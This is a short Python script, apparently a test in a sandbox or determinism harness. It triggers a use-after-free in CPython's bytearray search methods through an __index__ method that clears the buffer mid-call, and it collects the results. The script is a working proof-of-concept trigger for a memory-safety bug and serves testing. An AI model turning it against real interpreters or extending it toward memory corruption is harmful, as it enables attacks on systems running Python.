# attack: bytearray.index(x), where x.__index__ clears the bytearray (CPython issue 142560): a use after free
# fence: reads stay inside the guest's memory; found or not, it is the same everywhere
# step: deploy attack [] => *
victim = bytearray(b"A" * 4096)


class Evil:
    def __index__(self):
        victim.clear()
        victims.append(bytes(5000))
        return 0x41


victims = []
ends = []
for method in (victim.find, victim.count, victim.rfind, victim.index, victim.rindex):
    victim[:] = b"B" * 4096
    try:
        ends.append(method(Evil()))
    except ValueError as error:
        ends.append(str(error))
finish(ends)
